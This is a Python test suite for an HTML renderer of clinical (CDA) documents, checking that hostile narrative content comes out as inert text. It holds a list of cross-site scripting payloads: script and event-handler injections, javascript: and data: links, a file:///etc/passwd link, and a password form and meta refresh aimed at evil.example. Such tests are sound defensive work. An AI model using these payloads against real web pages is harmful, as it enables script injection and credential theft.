"""A narrative that wants to be more than text: whatever it holds, the page runs nothing and asks for nothing."""

from __future__ import annotations

import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree, html

from gateway.cda import render
from gateway.cda.render.html import web_address
from gateway.cda.render.narrative import DEPTH, ELEMENTS
from gateway.cda.render.text import blocks
from gateway.trust import safexml
from tests.support import rendered

_TAGS = (
    "html head meta title style body main article header section h1 h2 h3 h4 h5 h6 p div span br b dl dt dd table "
    "thead tbody tfoot tr th td caption ul ol li sub sup a img figure figcaption object details summary ins del pre"
)
_ATTRIBUTES = (
    "class id lang href target rel src alt scope colspan rowspan tabindex role aria-label data type download "
    "http-equiv content name charset"
)
TAGS, ATTRIBUTES = frozenset(_TAGS.split()), frozenset(_ATTRIBUTES.split())
ATTACKS = [
    "<script>alert(1)</script>",
    "<h:script xmlns:h='http://www.w3.org/1999/xhtml'>alert(1)</h:script>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(1)</script></svg>",
    "<iframe src='https://evil.example/'/><object data='https://evil.example/'/><embed src='x'/>",
    "<style>body { display: none }</style><link rel='stylesheet' href='https://evil.example/x.css'/>",
    "<meta http-equiv='refresh' content='0;url=https://evil.example/'/><base href='https://evil.example/'/>",
    "<form action='https://evil.example/'><input name='password'/><button>OK</button></form>",
    "<img src='x' onerror='alert(1)'/><content onclick='alert(1)' style='position:fixed' class='x'>a</content>",
    "<linkHtml href='javascript:alert(1)'>a</linkHtml>",
    "<linkHtml href=' JaVaScRiPt&#58;alert(1)'>a</linkHtml>",
    "<linkHtml href='data:text/html,&lt;script&gt;alert(1)&lt;/script&gt;'>a</linkHtml>",
    "<linkHtml href='vbscript:x'>a</linkHtml><linkHtml href='file:///etc/passwd'>b</linkHtml>",
    "<linkHtml href='//evil.example/'>a</linkHtml><linkHtml href='https:evil.example'>b</linkHtml>",
    "<linkHtml href='https://bank.example@evil.example/'>a</linkHtml>",
    "<linkHtml href='https://a.example/&quot; onmouseover=&quot;alert(1)'>a</linkHtml>",
    "<content ID='&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;'>a</content>",
    "<content styleCode='Bold&quot; onclick=&quot;x'>a</content>",
    "<content language='fr&quot; onclick=&quot;x'>b</content>",
    "&lt;/div&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "&lt;/style&gt;&lt;script&gt;alert(1)&lt;/script&gt;",
    "<renderMultiMedia referencedObject='https://evil.example/x.png'/>",
    "<table onmouseover='x'><td>loose</td><tr><item>b</item></tr><script/></table>",
    "<![CDATA[</div><script>alert(1)</script>]]>",
    "<?php alert(1) ?><!-- --><script xmlns=''/>",
]


def checked(page: bytes) -> html.HtmlElement:
    """The page, after every element and attribute of it was found on the lists."""
    root = html.document_fromstring(page.decode())
    for element in root.iter(etree.Element):
        assert element.tag in TAGS, element.tag
        for name, value in element.attrib.items():
            assert name in ATTRIBUTES, name
            if name == "href":
                assert value.startswith(("#", "https://", "http://", "data:application/pdf;base64,")), value
            if name in ("src", "data"):
                assert value.startswith(("data:image/png;base64,", "data:application/pdf;base64,")), value
            if name == "http-equiv":
                assert value == "Content-Security-Policy"
    return root


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_but_text_is_left_of_an_attack(text: str) -> None:
    page = checked(render.page(rendered.with_text(text)))
    assert not [one for one in page.iter("a") if "evil.example" in one.get("href").partition("?")[0]]


@pytest.mark.parametrize("text", ATTACKS)
def test_a_title_a_name_and_a_label_are_text_too(text: str) -> None:
    hostile = etree.tostring(etree.Element("x", v=text)).decode()[6:-3].replace("'", "&apos;")
    header = (
        rendered.HEADER.replace("Imagerie de la Rade", hostile)
        .replace("Scanner", hostile)
        .replace("KERMARREC", hostile)
    )
    body = rendered.section("1.2.3", "1-1", hostile.replace('"', "&quot;"), hostile)
    checked(render.page(safexml.parse(rendered.xml(body, header))))


@pytest.mark.parametrize(
    "address",
    [
        "javascript:alert(1)",
        "data:text/html,x",
        "https://a@b/",
        "http://[",
        "https://",
        "ftp://a/",
        "",
        "https://a:99999/",
    ],
)
def test_an_address_that_is_no_web_address_is_no_link(address: str) -> None:
    assert web_address(address) is None
    link = address.replace("&", "&amp;").replace('"', "")
    body = rendered.sections().replace(rendered.LINK, link)
    page = checked(render.page(safexml.parse(rendered.xml(body))))
    assert not page.xpath("//section[@class='acts']//a")


def test_a_name_cannot_turn_the_direction_of_its_neighbours() -> None:
    page = render.page(rendered.with_text("a\u202eb\u2066c\u009b31md")).decode()
    assert "abc31md" in page


@pytest.mark.parametrize("depth", [DEPTH - 1, DEPTH + 1, 200])
def test_depth_has_an_end(depth: int) -> None:
    text = "<content>" * depth + "bottom" + "</content>" * depth
    assert "bottom" in checked(render.page(rendered.with_text(text))).text_content()


def test_sections_in_one_another_have_an_end() -> None:
    body = "deep"
    for _ in range(60):
        body = (
            f"<component><section><title>t</title><text>x</text>{body if body != 'deep' else ''}</section></component>"
        )
    page = checked(render.page(safexml.parse(rendered.xml(body))))
    assert len(page.xpath("//section[contains(@class, 'section')]")) == 12


def test_a_million_elements_end_in_a_notice() -> None:
    text = "<br/>" * (ELEMENTS + 10)
    began = time.process_time()
    page = render.page(rendered.with_text(text))
    assert time.process_time() - began < 20
    assert page.count(b"<br>") <= ELEMENTS
    assert "trop long" in page.decode()
    sections = "<component><section><text>x</text></section></component>" * 2000
    assert render.page(safexml.parse(rendered.xml(sections))).count(b"<section") < 600


def test_attachments_are_counted() -> None:
    value = "<value mediaType='image/png' representation='B64'>AAAA</value>"
    one = f"<entry><observationMedia>{value}</observationMedia></entry>"
    assert len(render.parts(rendered.with_text("x", one * 500))) == 100


TEXT = st.text(st.characters(blacklist_categories=("Cs", "Cc")), max_size=12)
# fmt: off
NAMES = st.sampled_from((
    "content", "paragraph", "list", "item", "table", "tr", "td", "th", "thead", "caption", "br", "linkHtml", "sub",
    "renderMultiMedia", "script", "style", "iframe",
))
KEYS = st.sampled_from((
    "ID", "styleCode", "href", "onclick", "colspan", "align", "referencedObject", "style", "class", "src", "language",
))
# fmt: on


def element(children: st.SearchStrategy[list[etree._Element]]) -> st.SearchStrategy[etree._Element]:
    @st.composite
    def make(draw: st.DrawFn) -> etree._Element:
        made = etree.Element(f"{{urn:hl7-org:v3}}{draw(NAMES)}", draw(st.dictionaries(KEYS, TEXT, max_size=3)))
        made.text = draw(TEXT)
        made.extend(draw(children))
        made.tail = draw(TEXT)
        return made

    return make()


@settings(max_examples=60, deadline=None)
@given(st.recursive(element(st.just([])), lambda inner: element(st.lists(inner, max_size=3)), max_leaves=8))
def test_any_narrative_becomes_a_page_of_the_list_and_keeps_its_text(narrative: etree._Element) -> None:
    root = rendered.with_text("")
    text = next(root.iter("{urn:hl7-org:v3}text"))
    text.append(narrative)
    expected = "".join(str(one) for one in text.itertext())
    checked(render.page(root))
    _ = list(blocks(render.article(root)))
    shown = "".join(str(one) for one in render.article(root).itertext())
    assert all(word in shown for word in expected.split() if word.isalnum() and word.isascii())
